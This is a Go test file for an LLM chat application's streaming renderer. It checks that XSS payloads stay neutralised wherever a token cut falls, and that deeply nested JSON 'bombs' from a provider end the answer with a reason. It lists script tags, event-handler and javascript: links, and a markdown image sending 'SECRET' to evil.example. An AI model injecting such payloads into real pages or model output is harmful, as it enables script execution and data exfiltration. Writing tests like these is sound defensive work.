package llm_test

import (
	"strings"
	"testing"

	"aimyorg/domain"
	"aimyorg/llm"
	"aimyorg/llm/llmtest"
)

// TestA77_HTMLCutAcrossTokens: wherever a token ends, what is shown until then is safe, and so is what follows it.
func TestA77_HTMLCutAcrossTokens(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"<script>alert(1)</script>", "a <img src=x onerror=alert(1)> b", "[x](javascript:alert(1))", "[x][r]\n\n[r]: javascript:x",
		"![s](https://evil.example/?q=SECRET)", "```html\n<script>\nalert(1)\n", "```\"><script>\nx\n\n```\n<svg onload=x>", "`<script>` <b onclick=x>**y",
		"| a |\n|---|\n| <script> |\n\n<iframe srcdoc=x>", "- <div hx-get=\"/x\" hx-trigger=\"load\">\n\n  </div>", "&lt;script&#62; &#60;script>", "<!-- <script> --> <?x?>",
	} {
		for cut := range len(text) + 1 {
			s := llm.NewStream(0, links)
			shown := ""
			for _, token := range []string{text[:cut], text[cut:], "\n\nand on"} {
				s.Write(token)
				f, _ := s.Frame()
				shown += string(f.Closed)
				wellFormed(t, text[:cut], shown+string(f.Open))
			}
			shown += string(s.End().Closed)
			wellFormed(t, text, shown)
			if strings.Contains(shown, `href="java`) || strings.Contains(shown, "<script") {
				t.Errorf("%q cut at %d: %s", text, cut, shown)
			}
		}
	}
}

// TestA115_JSONBombs: what is nested without end in a provider's answer ends the answer, with its reason, at once.
func TestA115_JSONBombs(t *testing.T) {
	t.Parallel()
	for name, line := range map[string]string{
		"arrays": strings.Repeat("[", 100_000), "closed arrays": strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000),
		"objects": strings.Repeat(`{"a":`, 100_000), "inside a chunk": `{"choices":` + strings.Repeat("[", 100_000), "in a string": `"` + strings.Repeat(`\u005b`, 100_000),
		"digits": `{"created":` + strings.Repeat("9", 500_000) + `}`, "keys": `{` + strings.Repeat(`"a":1,`, 100_000) + `"a":1}`,
	} {
		for kind, reply := range map[string]llmtest.Reply{
			"stream": llmtest.After("Before. ", func(x *llmtest.Exchange) { x.Raw("data: " + line + "\n\n") }),
			"whole":  func(x *llmtest.Exchange) { x.Header().Set("Content-Type", "application/json"); x.Raw(line) },
		} {
			t.Run(name+" "+kind, func(t *testing.T) {
				t.Parallel()
				b := newBench(t, reply)
				m := b.answer("How much leave?")
				if !m.State.Over() || m.State == domain.MessageDone || m.Reason == "" || kind == "stream" && m.Text != "Before. " {
					t.Errorf("%s, %q, %.80q", m.State, m.Reason, m.Text)
				}
			})
		}
	}
}
